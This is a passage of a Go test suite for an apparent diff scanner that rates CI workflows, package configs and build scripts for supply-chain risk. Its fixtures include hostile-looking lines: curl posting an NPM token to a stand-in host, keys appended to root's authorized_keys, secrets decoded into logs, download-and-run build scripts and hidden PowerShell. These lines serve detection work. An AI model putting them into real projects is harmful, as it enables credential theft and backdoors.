		{"self-hosted on a branch push", ".github/workflows/a.yml", "on:\n  push:\n    branches: [main]\njobs:\n  a:\n    runs-on: [self-hosted, linux]", 6, "medium gha-self-hosted"},
		// An artifact unpacked into its own folder cannot replace the
		// base branch's script that reads it; one unpacked into the
		// workspace can.
		{"artifact into a folder, base script reads it", ".github/workflows/a.yml", wfRunArtifact("          path: temp/size\n", "node scripts/size-report.js > report.md"), 13, ""},
		{"artifact into the workspace", ".github/workflows/a.yml", wfRunArtifact("", "node scripts/size-report.js > report.md"), 12, "high gha-artifact-run"},
		{"artifact's own script", ".github/workflows/a.yml", wfRunArtifact("          path: temp/size\n", "bash temp/size/post.sh"), 13, "high gha-artifact-run"},
		// A build script that downloads a toolchain and later runs other
		// tools: only a process given what the download wrote runs it.
		{"build.rs tool after a download", "build.rs", buildRsAfterDownload("Command::new(\"python3\").arg(\"tools/gen.py\").status().unwrap();"), 15, "medium start-process"},
		{"build.rs download's own .status()", "build.rs", buildRsAfterDownload("Command::new(\"python3\").arg(\"tools/gen.py\").status().unwrap();"), 7, ""},
		{"build.rs runs the download", "build.rs", buildRsAfterDownload("Command::new(\"./third_party/tool.bin\").status().unwrap();"), 15, "high download-and-run"},
		// A message that tells the user what to add to their profile.
		{"profile hint in a Python string", "install.py", "HINT = \"\"\"\nAdd it to your profile:\n\necho 'export PATH=\"$HOME/.t/bin:$PATH\"' | Out-File -Append $PROFILE\n\"\"\"", 4, ""},
		// A build hook's secret URL posted to is its use; a secret in the body is a send.
		{"post to a secret build hook", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -X POST -d {} \"${{ secrets.NETLIFY_DOCS_BUILD_HOOK }}?trigger_branch=main\"", 6, "medium download"},
		{"secret in a post's body", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -X POST -d \"${{ secrets.NPM_TOKEN }}\" https://x.invalid/c", 6, "high secret-send"},
		// A certificate decoded from a secret into a file is not printed.
		{"certificate decoded into a file", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: macos-latest\n    env:\n      CERT: ${{ secrets.CERT_BASE64 }}\n    steps:\n      - run: echo -n \"$CERT\" | base64 --decode --output cert.p12", 8, "medium decode"},
		{"certificate decoded to the log", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: macos-latest\n    env:\n      CERT: ${{ secrets.CERT_BASE64 }}\n    steps:\n      - run: echo -n \"$CERT\" | base64 --decode", 8, "high secret-unmasked"},
		// A service enabled: the unit a package installed, or one the file wrote.
		{"Debian postinst enables its service", "debian/t.postinst", "#!/bin/sh\nsystemctl enable t.service || true", 2, "medium persistence"},
		{"nfpm post-install copies its init script", "scripts/deb/post-install.sh", "cp -f $SCRIPT_DIR/init.sh /etc/init.d/t", 1, "medium persistence"},
		{"package script adds a key", "scripts/rpm/post-install.sh", "echo \"$KEY\" >> /root/.ssh/authorized_keys", 1, "high persistence"},
		{"enable a packaged service", "scripts/install.sh", "apt-get install -y tailscale\nsystemctl enable --now tailscaled", 2, "medium persistence"},
		{"enable a unit the file wrote", "scripts/install.sh", "cat <<EOF > /etc/systemd/system/agent.service\n[Service]\nExecStart=/opt/agent/run\nEOF\nsystemctl enable --now agent", 5, "high persistence"},
		// An install script tested the way users run it, from the checkout.
		{"curl of a file:// URL", ".github/workflows/a.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS \"file://$(pwd)/install.sh\" | sh -s -- --yes", 6, "medium download-and-run"},
		// A download checked against its sum before anything runs.
		{"sum checked in an if", "Dockerfile", "FROM alpine:3.20\nRUN curl -fsSLo /tmp/k.pub https://x.invalid/k.pub \\\n && if echo \"$SUM */tmp/k.pub\" | sha512sum -c -; then echo ok; fi", 3, ""},
		// A token left on disk matters where a pull request's code runs after it.
		{"persisted token on a schedule", ".github/workflows/a.yml", "on:\n  schedule:\n    - cron: 0 0 * * 1\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: true", 10, "medium gha-persist-credentials"},
		{"persisted token on pull_request", ".github/workflows/a.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: true", 8, "medium gha-persist-credentials"},
		{"persisted token on every push", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: true", 8, "high gha-persist-credentials"},
		{"persisted token, base code on pull_request_target", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: true\n      - uses: acme/backport@v2", 8, "medium gha-persist-credentials"},
		{"persisted token, head on pull_request_target", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          persist-credentials: true", 9, "high gha-persist-credentials"},
		// Reach: what a job's token, secrets and environment meet matters on
		// the runs the vetted change starts (its pull_request run, the push of
		// its copy to pull-request/N). A job for tags, releases, a schedule or
		// another named branch waits for a maintainer's run; a trigger or a
		// condition the copy's push meets reaches it.
		{"write token in a job for tags", ".github/workflows/a.yml", "on: [push, pull_request]\njobs:\n  release:\n    if: startsWith(github.ref, 'refs/tags/')\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm run build", 7, "medium gha-excessive-permissions"},
		{"write token in a job every push runs", ".github/workflows/a.yml", "on: [push, pull_request]\njobs:\n  release:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm run build", 6, "high gha-excessive-permissions"},
		{"write token in a job for pushes and tags", ".github/workflows/a.yml", "on: [push, pull_request]\njobs:\n  release:\n    if: github.event_name == 'push' || startsWith(github.ref, 'refs/tags/')\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm run build", 7, "high gha-excessive-permissions"},
		{"write token in a job after the job for tags", ".github/workflows/a.yml", "on: [push, pull_request]\njobs:\n  publish:\n    if: github.ref_type == 'tag'\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo publish\n  announce:\n    needs: publish\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm run build", 12, "medium gha-excessive-permissions"},
		{"write token in a job that runs whatever the job for tags did", ".github/workflows/a.yml", "on: [push, pull_request]\njobs:\n  publish:\n    if: github.ref_type == 'tag'\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo publish\n  announce:\n    needs: publish\n    if: always()\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm run build", 13, "high gha-excessive-permissions"},
		{"workflow's write token when every job is for tags", ".github/workflows/a.yml", "on: push\npermissions:\n  contents: write\njobs:\n  release:\n    if: startsWith(github.ref, 'refs/tags/')\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm run build", 3, "medium gha-excessive-permissions"},
		{"workflow's write token with a job every push runs", ".github/workflows/a.yml", "on: push\npermissions:\n  contents: write\njobs:\n  release:\n    if: startsWith(github.ref, 'refs/tags/')\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo release\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test", 3, "high gha-excessive-permissions"},
		{"self-hosted runner in a job for tags", ".github/workflows/a.yml", "on: [push, pull_request]\njobs:\n  release:\n    if: startsWith(github.ref, 'refs/tags/')\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: make release", 5, "medium gha-self-hosted-runner"},
		{"self-hosted runner in a job every pull request runs", ".github/workflows/a.yml", "on: [push, pull_request]\njobs:\n  test:\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test", 4, "high gha-self-hosted-runner"},
		{"persisted token in a step for the default branch", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        if: github.ref == 'refs/heads/main'\n        with:\n          persist-credentials: true\n      - run: make", 9, "medium gha-persist-credentials"},
		{"persisted token once the change adds a push", ".github/workflows/a.yml", "on:\n  schedule:\n    - cron: 0 0 * * 1\n  push:\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: true", 11, "high gha-persist-credentials"},
		{"fetched value into GITHUB_ENV on a schedule", ".github/workflows/a.yml", "on:\n  schedule:\n    - cron: 0 0 * * *\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"V=$(curl -sS https://x.invalid/v | jq .v)\" >> $GITHUB_ENV", 8, "medium gha-github-env-privileged"},
		{"fetched value into GITHUB_ENV on push", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"V=$(curl -sS https://x.invalid/v | jq .v)\" >> $GITHUB_ENV", 6, "high gha-github-env-privileged"},
		// A hunk that adds a job: the triggers are not shown, the job's own
		// condition is.
		{"OIDC token in an added job for releases", ".github/workflows/ci.yml", "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -20,3 +20,11 @@ jobs:\n       - run: make test\n \n+  publish:\n+    if: github.event_name == 'release'\n+    runs-on: ubuntu-latest\n+    permissions:\n+      id-token: write\n+    steps:\n+      - uses: actions/checkout@v4\n+      - run: make dist\n   docs:\n", 26, "medium gha-excessive-permissions"},
		{"OIDC token in an added job", ".github/workflows/ci.yml", "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -20,3 +20,10 @@ jobs:\n       - run: make test\n \n+  publish:\n+    runs-on: ubuntu-latest\n+    permissions:\n+      id-token: write\n+    steps:\n+      - uses: actions/checkout@v4\n+      - run: make dist\n   docs:\n", 25, "high gha-excessive-permissions"},
		// A hunk at the top of a workflow that shows its whole on: block.
		{"write token in a hunk that shows tag triggers", ".github/workflows/release.yml", "diff --git a/.github/workflows/release.yml b/.github/workflows/release.yml\n--- a/.github/workflows/release.yml\n+++ b/.github/workflows/release.yml\n@@ -1,8 +1,9 @@\n name: release\n on:\n   push:\n     tags: ['v*']\n   workflow_dispatch:\n permissions:\n-  contents: read\n+  contents: write\n+  id-token: write\n jobs:\n", 7, "medium gha-excessive-permissions"},
		{"write token in a hunk that shows a push trigger", ".github/workflows/release.yml", "diff --git a/.github/workflows/release.yml b/.github/workflows/release.yml\n--- a/.github/workflows/release.yml\n+++ b/.github/workflows/release.yml\n@@ -1,8 +1,9 @@\n name: release\n on:\n   push:\n     branches: ['**']\n   workflow_dispatch:\n permissions:\n-  contents: read\n+  contents: write\n+  id-token: write\n jobs:\n", 7, "high gha-excessive-permissions"},
		{"write token in a hunk that ends inside the triggers", ".github/workflows/release.yml", "diff --git a/.github/workflows/release.yml b/.github/workflows/release.yml\n--- a/.github/workflows/release.yml\n+++ b/.github/workflows/release.yml\n@@ -1,4 +1,5 @@\n on:\n   push:\n     tags: ['v*']\n+  workflow_dispatch:\n   release:\n@@ -20,3 +21,4 @@ jobs:\n     permissions:\n+      contents: write\n       id-token: write\n     steps:\n", 22, "high gha-excessive-permissions"},
		// Outsiders' code under a privileged trigger is not a question of reach.
		{"head checkout in a job a tag test does not gate", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    if: github.ref_type != 'tag'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          persist-credentials: true\n      - run: npm ci", 10, "high gha-persist-credentials"},
		// A repository on the project's own domain (the one its group id is
		// written from, or its modules' name) is its own; a dependency's
		// group id is the change's choice, and an address, a look-alike or
		// plain http stays high. A hosted feed service serves anyone's feeds.
		{"Maven repository on the group id's domain", "pom.xml", "<project>\n  <modelVersion>4.0.0</modelVersion>\n  <groupId>org.acme.tools</groupId>\n  <artifactId>acme-tools</artifactId>\n  <repositories>\n    <repository>\n      <id>acme</id>\n      <url>https://nexus.acme.org/repository/public</url>\n    </repository>\n  </repositories>\n</project>", 8, "medium registry-redirect"},
		{"Maven repository named after the modules", "pom.xml", "  <modules>\n    <module>acme-core</module>\n  </modules>\n  <repositories>\n    <repository>\n      <url>https://nexus.acme.org/public</url>\n    </repository>\n  </repositories>", 6, "medium registry-redirect"},
		{"Maven repository of a dependency's group", "pom.xml", "<project>\n  <groupId>org.acme.tools</groupId>\n  <dependencies>\n    <dependency>\n      <groupId>io.fastlib</groupId>\n      <artifactId>fastlib</artifactId>\n    </dependency>\n  </dependencies>\n  <repositories>\n    <repository>\n      <url>https://repo.fastlib.io/maven</url>\n    </repository>\n  </repositories>\n</project>", 11, "high registry-redirect"},
		{"Maven repository on another's domain", "pom.xml", "<project>\n  <groupId>org.acme.tools</groupId>\n  <repositories>\n    <repository>\n      <url>https://acme.org.cdn-edge.net/maven</url>\n    </repository>\n  </repositories>\n</project>", 5, "high registry-redirect"},
		{"Maven repository at an address", "pom.xml", "<project>\n  <groupId>org.acme.tools</groupId>\n  <repositories>\n    <repository>\n      <url>https://10.0.0.7/maven</url>\n    </repository>\n  </repositories>\n</project>", 5, "high registry-redirect"},
		{"Maven repository on the own domain over http", "pom.xml", "<project>\n  <groupId>org.acme.tools</groupId>\n  <repositories>\n    <repository>\n      <url>http://nexus.acme.org/maven</url>\n    </repository>\n  </repositories>\n</project>", 5, "high package-index-insecure"},
		{"npm scope's registry on the scope's domain", ".npmrc", "@acme:registry=https://npm.acme.dev/\n//npm.acme.dev/:_authToken=${NPM_TOKEN}", 1, "medium registry-redirect"},
		{"npm scope's registry on another domain", ".npmrc", "@acme:registry=https://npm.acme-packages.dev/", 1, "high registry-redirect"},
		{"npm registry on an unknown domain", ".npmrc", "registry=https://npm.acme.dev/", 1, "high registry-redirect"},
		{"NuGet feed on a hosted feed service", "NuGet.Config", "<configuration>\n  <packageSources>\n    <add key=\"nightly\" value=\"https://f.feedz.io/acme/acme/nuget/index.json\" />\n  </packageSources>\n</configuration>", 3, ""},
		{"NuGet feed on an unknown host", "NuGet.Config", "<configuration>\n  <packageSources>\n    <add key=\"nightly\" value=\"https://feeds.acme-builds.net/nuget/index.json\" />\n  </packageSources>\n</configuration>", 3, "high registry-redirect"},
		// A Dockerfile sets up the image, not the runner.
		{"image shell profile", "Dockerfile", "FROM debian:12\nRUN echo '. /usr/share/bash-completion/completions/git' >> ~/.bashrc", 2, "medium persistence"},
		{"image authorized key", "Dockerfile", "FROM debian:12\nRUN echo \"$KEY\" >> /root/.ssh/authorized_keys", 2, "high persistence"},
		// A git source: a commit or a tag fixes what is fetched, a branch does not.
		{"git dependency of the project's own owner", "package.json", "{\n  \"name\": \"w\",\n  \"repository\": {\n    \"type\": \"git\",\n    \"url\": \"https://github.com/acme/w.git\"\n  },\n  \"devDependencies\": {\n    \"tooling\": \"acme/tooling#v1.28.1\"\n  }\n}", 8, "medium dependency-url"},
		{"git dependency of another owner", "package.json", "{\n  \"name\": \"w\",\n  \"repository\": {\n    \"type\": \"git\",\n    \"url\": \"https://github.com/acme/w.git\"\n  },\n  \"devDependencies\": {\n    \"tooling\": \"acme-dev/tooling#v1.28.1\"\n  }\n}", 8, "high dependency-url"},
		{"git dependency, no own owner named", "package.json", "{\n  \"name\": \"w\",\n  \"dependencies\": {\n    \"event-stream\": \"github:right9ctrl/event-stream#e316336\"\n  }\n}", 4, "high dependency-url"},
		{"gem at a branch", "Gemfile", "gem \"rack\", github: \"rack/rack\", branch: \"main\"", 1, "high dependency-url"},
		{"gem with no ref", "Gemfile", "gem \"rack\", git: \"https://github.com/rack/rack.git\"", 1, "high dependency-url"},
		{"gem at a commit", "Gemfile", "gem \"rack\", github: \"rack/rack\", ref: \"4b2d9e1c0f3a\"", 1, "medium dependency-url"},
		{"gem at a tag", "Gemfile", "gem \"rack\", github: \"rack/rack\", tag: \"v3.1.8\"", 1, "medium dependency-url"},
		{"crate at a commit", "Cargo.toml", "[dependencies]\nfoo = { git = \"https://github.com/acme/foo\", rev = \"9f1c2a7e\" }", 2, "medium dependency-url"},
		{"crate patched at a commit", "Cargo.toml", "[patch.crates-io]\nserde = { git = \"https://github.com/acme/serde\", rev = \"3f1d2c7b\" }", 2, "high dependency-url"},
		{"crate at a commit over git://", "Cargo.toml", "[dependencies]\nfoo = { git = \"git://git.x.invalid/foo\", rev = \"9f1c2a7e\" }", 2, "high dependency-url"},
		// Build-tool programs: one in the tree is read like build.rs; one outside it is not in the diff.
		{"cargo linker in the tree", ".cargo/config.toml", "[target.x]\nlinker = \"ci/zig-cc.sh\"", 2, "medium build-tool-exec"},
		{"cargo wrapper outside", ".cargo/config.toml", "[build]\nrustc-wrapper = \"~/.cache/rw\"", 2, "high build-tool-exec"},
		{"npm node-options require", ".npmrc", "node-options=--require ./hook.cjs", 1, "high build-tool-exec"},
		// Native libraries: the package's own from install-time code is high; libc is a probe.
		{"native lib in setup.py", "setup.py", "import ctypes, os\nlib = ctypes.CDLL(os.path.join(here, 'bin', 'x.so'))", 2, "high native-load"},
		{"libc in setup.py", "setup.py", "import ctypes\nlibc = ctypes.CDLL('libc.so.6')", 2, "medium native-load"},
		{"native lib in conftest", "tests/conftest.py", "import ctypes, os\nlib = ctypes.CDLL(os.path.join(here, 'x.so'))", 2, "medium native-load"},
		// Loaders: the Visual Studio DIA SDK registered from its install folder.
		{"regsvr32 of the DIA SDK", "ci/setup.bat", "regsvr32 /s \"%VSINSTALLDIR%\\DIA SDK\\bin\\amd64\\msdia140.dll\"", 1, ""},
		{"hidden PowerShell in an app", "src/win/query.ts", "spawn('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-Command', q])", 1, "medium start-process"},
		{"hidden PowerShell in a build event", "x.vcxproj", "<Command>powershell -w hidden -c \"./gen.ps1\"</Command>", 1, "high powershell-hidden"},
		// Hidden characters in what a linter's or parser's tests feed it are
		// the tests' subject; in code the test runner loads they are not.
		{"bidi in a linter's fixture", "crates/lint/resources/test/fixtures/bidi.py", "print(\"x\") # \u202e hidden", 1, "medium hidden-bidi"},
		{"zero-width in a Go testdata file", "parser/testdata/zw.css", "a { color: red;\u200b }", 1, "medium hidden-payload"},
		{"zero-width in a fixtures helper module", "tests/helpers/fixtures.py", "token\u200b = load()", 1, "high hidden-payload"},
		{"tags in a conftest among fixtures", "tests/fixtures/conftest.py", "x = '\U000E0061\U000E0062\U000E0063'", 1, "high hidden-payload"},
		{"bidi in a Jest test among fixtures", "tests/fixtures/parse.test.js", "const ok = true // \u202e hidden", 1, "high hidden-bidi"},
		{"bidi in a spec among fixtures", "spec/fixtures/parse_spec.rb", "ok = true # \u202e hidden", 1, "high hidden-bidi"},
		{"bidi in a script Jest collects", "src/__tests__/__fixtures__/load.js", "const ok = true // \u202e hidden", 1, "high hidden-bidi"},
		// A test fixture's server in its own session is stopped by the fixture.
		{"fixture server", "tests/conftest.py", "import subprocess\nproc = subprocess.Popen(['python', '-m', 'http.server'], start_new_session=True)", 2, "medium start-process"},
	} {
		t.Run(c.name, func(t *testing.T) {
			diff := c.text
			if !strings.HasPrefix(diff, "diff --git") {
				diff = addedFile(c.path, c.text)
			}
			_, items := scanDiff(t, c.name, []byte(diff))
			got, all := "", []string{}
			for _, a := range items {
				if a.Hunk >= 0 && a.NewLine == c.line {
					got = a.Severity + " " + a.Rule
				}
				all = append(all, fmt.Sprintf("%s %s:%d %s", a.Severity, a.Path, a.NewLine, a.Rule))
			}
			if got != c.want {
				t.Errorf("line %d: got %q, want %q (all: %q)", c.line, got, c.want, all)
			}
		})
	}
}

// commentCommand is an issue_comment workflow whose one job, run when cond
// holds, checks out the pull request's head (line 13) and builds it (line 15).
func commentCommand(cond string) string {
	return "on:\n  issue_comment:\n    types: [created]\npermissions:\n  contents: write\njobs:\n  fix:\n    if: github.event.issue.pull_request != null && " + cond +
		"\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: refs/pull/${{ github.event.issue.number }}/head\n      - run: echo checking out\n      - run: npm ci"
}

// wfRunArtifact is a workflow_run job that checks out the base branch,
// downloads the triggering run's artifact (with the with: lines given)
// and runs cmd.
func wfRunArtifact(with, cmd string) string {
	return "on:\n  workflow_run:\n    workflows: [ci]\n    types: [completed]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n" + with + "      - run: " + cmd
}

// buildRsAfterDownload is a build.rs that downloads a file with a curl
// builder chain over several lines, unpacks it, and then, ten lines on,
// runs last.
func buildRsAfterDownload(last string) string {
	return "use std::process::Command;\n\nfn main() {\n    assert!(Command::new(\"curl\")\n        .arg(\"-o\").arg(\"./third_party/tool.bin\")\n        .arg(\"https://x.invalid/tool.bin\")\n        .status()\n        .unwrap()\n        .success());\n    Command::new(\"unzip\").arg(\"./third_party/tool.zip\").status().unwrap();\n    let a = 1;\n    let b = 2;\n    let c = a + b;\n    println!(\"{}\", c);\n    " + last + "\n}"
}

// foreignSetup is a push workflow whose one job, under cond, checks out
// ci-helpers/shared-actions at a branch and runs its action (line 12).
func foreignSetup(cond string) string {
	return "on: push\njobs:\n  a:\n    " + cond + "\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: ci-helpers/shared-actions\n          ref: main\n          path: .shared\n      - uses: ./.shared/setup"
}
